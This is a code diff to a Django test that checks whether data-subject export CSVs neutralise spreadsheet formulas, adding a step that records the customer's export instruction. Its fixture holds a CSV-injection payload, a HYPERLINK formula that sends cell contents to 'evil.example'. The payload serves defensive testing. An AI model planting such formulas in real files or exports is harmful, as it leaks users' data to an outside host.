@@ -13,9 +13,10 @@ from django.core.management import call_command
 from callnex_compliance.csv_safe import neutralise
 from callnex_compliance.platform_data.models import OrganisationProfile
 from rights_requests import services
+from rights_requests.models import Instruction
 from tests.factories.legal_basis import approved_activity
 from tests.factories.platform_data import CallRecordFactory, ContactFactory
-from tests.factories.rights_requests import request_via_intake
+from tests.factories.rights_requests import instruct, request_via_intake
 
 SKIPPED = {".venv", ".git", "tests", "var", "staticfiles", "node_modules"}
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -57,7 +58,9 @@ def test_subject_export_csvs_neutralise_formulas_in_names(db, handler_user):
     request = request_via_intake()
     services.rights_request_verify_identity(rights_request=request, actor=None)
     services.rights_request_link_matches(rights_request=request, actor=None)
-    export = services.rights_request_export(rights_request=request, actor=handler_user)
+    customer = contact.campaign.customer
+    instruct(request, customer, Instruction.EXPORT)  # campaign data is exported on the customer's instruction
+    export = services.rights_request_export(rights_request=request, actor=handler_user, customer=customer)
     with export.file.open("rb") as handle:
         archive = zipfile.ZipFile(io.BytesIO(handle.read()))
     [row] = list(csv.DictReader(io.StringIO(archive.read("contacts.csv").decode())))
